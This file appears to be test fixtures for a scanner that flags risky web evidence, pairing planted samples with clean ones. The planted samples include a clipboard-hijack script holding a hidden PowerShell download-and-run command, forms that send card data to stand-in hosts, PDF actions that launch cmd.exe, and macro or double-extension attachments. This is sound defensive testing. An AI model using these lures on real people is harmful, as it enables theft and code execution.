import { makeDocx, makePdf, makeZip } from '../../src/areas/evidence/reading/testing/fixtures.ts';
import { docx, har, html, type MadeFile, pdf } from './made-file.ts';

const visit = (url: string, more: Record<string, unknown> = {}, method = 'GET') => ({
  startedDateTime: '2026-03-01T10:00:00Z',
  request: { method, url, cookies: [], headers: [], ...(more.request as object) },
  response: {
    status: 200,
    content: { mimeType: 'text/html' },
    cookies: [],
    headers: [],
    ...(more.response as object),
  },
});

/** Recorded visits with cookies, and without. */
export const cookieFiles = (): { planted: MadeFile[]; clean: MadeFile[] } => ({
  planted: [
    har('listed by the recorder', [
      visit('https://shop.example/', { response: { cookies: [{ name: 'PHPSESSID', value: 'secret' }] } }),
    ]),
    har('in a header that sets it', [
      visit('https://shop.example/', {
        response: { headers: [{ name: 'Set-Cookie', value: '_ga=GA1.2.3; Path=/' }] },
      }),
    ]),
    har('in a header that sends it', [
      visit('https://shop.example/', { request: { headers: [{ name: 'cookie', value: 'sid=1; lang=en' }] } }),
    ]),
    har('of a third party', [
      visit('https://shop.example/'),
      visit('https://ads.other.example/p', { response: { cookies: [{ name: '_fbp', value: 'x' }] } }),
    ]),
  ],
  clean: [
    har('a visit without cookies', [visit('https://shop.example/')]),
    har('the word in an address', [visit('https://shop.example/cookies?cookie=1')]),
    html('a page about cookies', '<p>We use cookies. Set-Cookie: a=b</p>'),
  ],
});

/** Pages and visits whose forms ask for what nobody should give, and harmless forms. */
export const formFiles = (): { planted: MadeFile[]; clean: MadeFile[] } => ({
  planted: [
    html('card', '<form action="https://grab.example/p"><input name="cardNumber"><input name="cvv"></form>'),
    html('password by its type', '<form><input type="password" name="x1"></form>'),
    html(
      'seed phrase',
      '<form><textarea placeholder="Enter your 12 word recovery phrase"></textarea></form>',
    ),
    html('identity', '<form><input id="ssn"><input name="date_of_birth"></form>'),
    html('code', '<form><input autocomplete="one-time-code" name="otp"></form>'),
    html('bank', '<form><input name="iban"></form>'),
    har('a visit that sent a card', [
      visit(
        'https://grab.example/pay',
        { request: { postData: { params: [{ name: 'card-number', value: '4' }] } } },
        'POST',
      ),
    ]),
  ],
  clean: [
    html('search', '<form><input type="search" name="q"></form>'),
    html('newsletter', '<form><input name="email"><input name="first_name"></form>'),
    html('contact', '<form><textarea name="message"></textarea><input name="subject"></form>'),
    html('hidden token', '<form><input type="hidden" name="password_token"><input name="colour"></form>'),
    har('a visit that sent a search', [
      visit(
        'https://shop.example/s',
        { request: { postData: { params: [{ name: 'query', value: 'x' }] } } },
        'POST',
      ),
    ]),
  ],
});

const CLIPBOARD = 'navigator.clipboard.writeText("powershell -w hidden -c iex(iwr x)")';

/** Files whose code hides what it does or starts by itself, and honest code. */
export async function codeFiles(): Promise<{ planted: MadeFile[]; clean: MadeFile[] }> {
  const letter = await makePdf(['A letter']);
  const action = (body: string) =>
    Buffer.concat([letter, Buffer.from(`\n9 0 obj\n${body}\nendobj\n%%EOF\n`)]);
  const attached = (fileName: string): MadeFile => ({
    about: `a mail with ${fileName}`,
    fileName: 'mail.eml',
    mimeType: 'message/rfc822',
    bytes: Buffer.from('From: a@example.org\n\nx'),
    attachments: [{ fileName, fileType: 'application/octet-stream', fileSize: 1, sha256: '0' }],
  });
  return {
    planted: [
      html('encoded', '<script>eval(atob("YWxlcnQoMSk="))</script>'),
      html('written out of escapes', '<script>document.write(unescape("%3Cb%3E"))</script>'),
      html('packed', '<script>eval(function(p,a,c,k,e,d){return p}("0",1,1,"".split("|"),0,{}))</script>'),
      html(
        'renamed',
        `<script>${Array.from({ length: 14 }, (_, n) => `var _0x${(41_000 + n).toString(16)}=${n};`).join('')}</script>`,
      ),
      html('clipboard', `<script>${CLIPBOARD}</script>`),
      html('hidden frame', '<iframe src="https://other.example/x" width="1" height="1"></iframe>'),
      pdf('a script', action('<< /S /JavaScript /JS (app.alert(1)) >>')),
      pdf('a script by an escaped name', action('<< /S /J#61vaScript /JS (x) >>')),
      pdf('starts a program', action('<< /S /Launch /F (cmd.exe) >>')),
      docx('macros', await makeZip({ 'word/document.xml': '<w/>', 'word/vbaProject.bin': 'x' })),
      attached('invoice.pdf.exe'),
      attached('order.js'),
    ],
    clean: [
      html('a usual script', '<script>document.querySelector("b").textContent = "x"; fetch("/own")</script>'),
      html('copies a coupon', '<script>navigator.clipboard.writeText("SAVE10")</script>'),
      html('a frame that is seen', '<iframe src="https://maps.example/" width="400" height="300"></iframe>'),
      html('speaks of powershell', '<p>Open PowerShell and type eval(atob(x))</p>'),
      pdf('a letter', letter),
      pdf('a letter that opens at page one', action('<< /OpenAction [3 0 R /Fit] >>')),
      docx('a letter', await makeDocx(['A letter'], 'https://example.org/')),
      attached('invoice.pdf'),
      attached('photo.jpg'),
    ],
  };
}

/** Pages whose scripts call an interface, and pages that do not. */
export const callFiles = (): { planted: MadeFile[]; clean: MadeFile[] } => ({
  planted: [
    html('fetch', '<script>fetch("https://collect.example/api/take", {method:"POST"})</script>'),
    html('XMLHttpRequest', '<script>x.open("POST", "https://collect.example/gate.php")</script>'),
    html('a bot', '<script>const t="5912837465:AAHk3jd8s7Hs6dk2Jd8sk3Hs7dk2Js8dHsK"</script>'),
    har('a visit that posts', [visit('https://collect.example/v1/take', {}, 'POST')]),
  ],
  clean: [
    html('a call to itself', '<script>fetch("/own/data")</script>'),
    html('no script', '<p>Call us</p>'),
    har('a visit that only reads', [visit('https://shop.example/')]),
  ],
});

/** Pages with a counter in their scripts, and without. */
export const counterFiles = (): { planted: MadeFile[]; clean: MadeFile[] } => ({
  planted: [
    html('tag manager', '<script>gtag("config", "GTM-K7PX2QZ")</script>'),
    html('pixel', '<script>fbq("init", "291837465012345")</script>'),
    html('in an address', '<script src="https://www.googletagmanager.com/gtag/js?id=G-9XK2L4QWTR"></script>'),
  ],
  clean: [
    html('a number', '<script>const id = "291837465012345"</script>'),
    html('no counter', '<script src="https://cdn.example/jquery.js"></script>'),
  ],
});
